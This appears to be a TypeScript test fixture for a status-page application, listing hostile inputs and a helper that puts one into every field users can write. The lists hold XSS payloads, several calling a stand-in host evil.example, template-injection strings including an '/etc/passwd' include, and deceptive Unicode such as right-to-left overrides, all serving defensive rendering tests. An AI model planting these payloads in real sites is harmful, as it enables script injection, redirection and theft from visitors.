/** What people may write by malice or mistake, and a page that says it in every place where they can write. */
import type { LocalText, PublicPage } from '../../server/contract/public.ts'
import { component, update } from './facts.ts'
import { OPEN, OUTAGE } from './fixtures.ts'

export const XSS = [
  '<script>alert(1)</script>',
  '"><script src=//evil.example></script>',
  "'><img src=x onerror=alert(1)>",
  '<svg/onload=alert(1)>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext></mtext><mglyph><style><img src onerror=alert(1)>',
  '</title><script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<a href="javascript:alert(1)">x</a>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](vbscript:msgbox(1))',
  '[x](//evil.example)',
  '[x](https://ok.example/"onmouseover="alert(1))',
  '[x](<https://ok.example/ "onclick=alert(1)>)',
  '[x]: javascript:alert(1)\n\n[x]',
  '<javascript:alert(1)>',
  '<https://ok.example/"onclick="alert(1)>',
  '![x](x" onerror="alert(1))',
  '![x](javascript:alert(1))',
  '`</code><script>alert(1)</script>`',
  '```" onload="alert(1)\n<script>alert(1)</script>\n```',
  '~~~html\n</code></pre><img src=x onerror=alert(1)>\n~~~',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<base href="//evil.example/">',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<style>@import "//evil.example"</style>',
  '<form action=//evil.example><input name=q><button>Go',
  '<details open ontoggle=alert(1)>',
  '<p style="position:fixed;inset:0">cover</p>',
  '<h1>Everything is fine</h1>',
  '# Everything is fine',
  '| a | b |\n|---|---|\n| <script> | 2 |',
  '\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt>',
  '<script\u2028>alert(1)</script>',
  '\ud800<script>alert(1)</script>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  'javascript:alert(1)',
  ']]><script>alert(1)</script>',
  '\\"><script>alert(1)</script>',
  `<x${' a'.repeat(500)} onclick=alert(1)>`,
] as const

export const TEMPLATES = [
  '{{7777*7777}}',
  `\${7777*7777}`,
  '<%= 7777*7777 %>',
  "{% include '/etc/passwd' %}",
  '#{7777*7777}',
  '{names}',
  '{when}',
  '{{components}}',
] as const

export const SPELLINGS = [
  ['a right-to-left override', 'safe\u202eexe.emas'],
  ['unclosed isolates and embeddings', '\u2067\u202b\u202dnever closed'],
  ['zero-width letters', 'a\u200b\u200c\u200d\ufeffb'],
  ['ten thousand accents on one letter', `a${'\u0301'.repeat(10_000)}`],
  ['emoji of several parts', '👩‍👩‍👧‍👦🏳️‍🌈🇮🇹'],
  ['a word of four thousand letters', 'W'.repeat(4_000)],
  ['letters of another direction', 'البث לא עובד'],
  ['controls', 'a\u0007\u001b[31mred\u0085b'],
] as const

/** What strangers may write on their own status page. */
function hostileReport(text: string): NonNullable<PublicPage['components'][number]['reported']> {
  const incidents = [{ title: text, url: text, startedAt: OUTAGE.startedAt }]
  return { by: text, url: text, part: text, state: 'major', since: OUTAGE.startedAt, incidents }
}

/** A page whose every text that people write is `text`. */
export function hostilePage(text: string): PublicPage {
  const local: LocalText = { en: text }
  const said = update('h1', 'investigating', OUTAGE.startedAt, { body: local, works: local, advice: local })
  const incident = { ...OUTAGE, title: local, updates: [said, { ...said, id: 'h2', isCorrection: true }] }
  return {
    ...OPEN,
    page: { ...OPEN.page, name: local, supportUrl: text },
    regions: OPEN.regions.map((one) => ({ ...one, name: local, place: local })),
    components: OPEN.components.map((one) => ({
      ...component(one.id, local, { ...one, name: local }),
      key: text,
      description: local,
      ...(one.measured || one.isGroup ? {} : { reported: hostileReport(text) }),
    })),
    open: [incident, { ...incident, id: 'inc2' }],
    recent: OPEN.recent.map((one) => ({ ...one, title: local, updates: [said] })),
  }
}
